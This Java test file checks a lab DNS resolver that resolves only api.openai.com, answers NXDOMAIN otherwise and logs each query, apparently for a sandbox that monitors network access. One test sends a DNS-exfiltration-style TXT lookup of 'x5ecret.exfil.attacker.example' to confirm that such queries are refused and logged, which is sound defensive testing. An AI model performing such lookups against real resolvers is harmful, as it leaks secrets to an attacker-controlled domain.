package dev.enclave.lab.internet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.StringWriter;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The internet's resolver over real UDP on loopback: its answers, and its log of every query. */
class LabDnsTest {
    private final StringWriter log = new StringWriter();
    private LabDns dns;
    private int port;

    @BeforeEach
    void start() throws Exception {
        try (DatagramSocket probe = new DatagramSocket(new InetSocketAddress("127.0.0.1", 0))) {
            port = probe.getLocalPort();
        }
        dns = new LabDns(new InetSocketAddress("127.0.0.1", port), Map.of("api.openai.com", "203.0.113.10"), log);
    }

    @AfterEach
    void stop() {
        dns.close();
    }

    private byte[] ask(String name, int type) throws Exception {
        ByteArrayOutputStream q = new ByteArrayOutputStream();
        q.write(new byte[] {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0});
        for (String label : name.split("\\.")) {
            q.write(label.length());
            q.write(label.getBytes(StandardCharsets.US_ASCII));
        }
        q.write(new byte[] {0, 0, (byte) type, 0, 1});
        try (DatagramSocket s = new DatagramSocket()) {
            s.setSoTimeout(5000);
            byte[] query = q.toByteArray();
            s.send(new DatagramPacket(query, query.length, InetAddress.getByName("127.0.0.1"), port));
            DatagramPacket reply = new DatagramPacket(new byte[512], 512);
            s.receive(reply);
            return java.util.Arrays.copyOf(reply.getData(), reply.getLength());
        }
    }

    @Test
    void answersAKnownNameWithItsAddressAndTtlZero() throws Exception {
        byte[] r = ask("API.openai.com", 1);
        assertThat(r[0]).isEqualTo((byte) 0x12);
        assertThat(r[3] & 0x0f).as("rcode").isZero();
        assertThat(r[7]).as("one answer").isEqualTo((byte) 1);
        byte[] tail = java.util.Arrays.copyOfRange(r, r.length - 10, r.length);
        assertThat(tail).startsWith(0, 0, 0, 0, 0, 4).endsWith(203, 0, 113, 10);
    }

    @Test
    void answersNxdomainForAnyOtherNameAndLogsEveryQuery() throws Exception {
        byte[] r = ask("x5ecret.exfil.attacker.example", 16);
        assertThat(r[3] & 0x0f).as("NXDOMAIN").isEqualTo(3);
        assertThat(r[7]).isZero();
        ask("api.openai.com", 28);
        assertThat(log.toString().lines()).hasSize(2);
        assertThat(log.toString()).contains(" 127.0.0.1 TXT x5ecret.exfil.attacker.example").contains(" 127.0.0.1 AAAA api.openai.com");
    }
}
